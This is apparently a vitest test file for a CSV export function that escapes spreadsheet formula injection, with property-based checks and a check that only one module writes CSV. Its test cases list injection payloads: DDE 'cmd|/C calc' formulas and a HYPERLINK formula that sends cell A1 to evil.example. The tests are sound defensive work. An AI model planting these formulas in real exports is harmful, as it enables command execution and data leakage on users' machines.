import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { toCsv } from "./csv";

const dangerous = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"];
const cells = (text: string) => parse(text.replace("\uFEFF", "")) as string[][];

describe("toCsv", () => {
  test.each([
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    '=HYPERLINK("https://evil.example?x="&A1,"clic")',
  ])("gives %j to a spreadsheet as text", (nom) => {
    const [, row = []] = cells(toCsv([{ nom }]));
    expect(row[0]).toBe(`'${nom}`);
  });

  test("leaves numbers, also negative ones, as they are", () => {
    expect(toCsv([{ solde: -12.5, nom: "Aït-Ali" }])).toContain("-12.5,Aït-Ali");
  });

  test("lets no text begin a formula, nor break out of its cell, whatever it is", () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: "binary" }), { minLength: 1, maxLength: 4 }), (texts) => {
        const row = Object.fromEntries(texts.map((text, at) => [`c${at}`, text]));
        const [, ...read] = parse(toCsv([row]).slice(1), { record_delimiter: "\r\n" }) as string[][];
        expect(read).toHaveLength(1);
        expect(read[0]).toHaveLength(texts.length);
        for (const cell of read[0] ?? []) expect(dangerous.some((one) => cell.startsWith(one))).toBe(false);
      }),
    );
  });

  test("is the only thing here that writes CSV", () => {
    const writers = ["app", "lib", "components", "server"].flatMap((folder) =>
      readdirSync(folder, { recursive: true, encoding: "utf8" })
        .map((path) => join(folder, path))
        .filter((path) => /\.tsx?$/.test(path) && !/\.(test|testing)\.tsx?$/.test(path))
        .filter((path) =>
          /csv-stringify|\\uFEFF\$\{|\.join\(["'`][,;]["'`]\)[^\n]*\\r\\n/.test(readFileSync(path, "utf8")),
        ),
    );
    expect(writers).toEqual(["lib/delivery/csv.ts"]);
  });
});
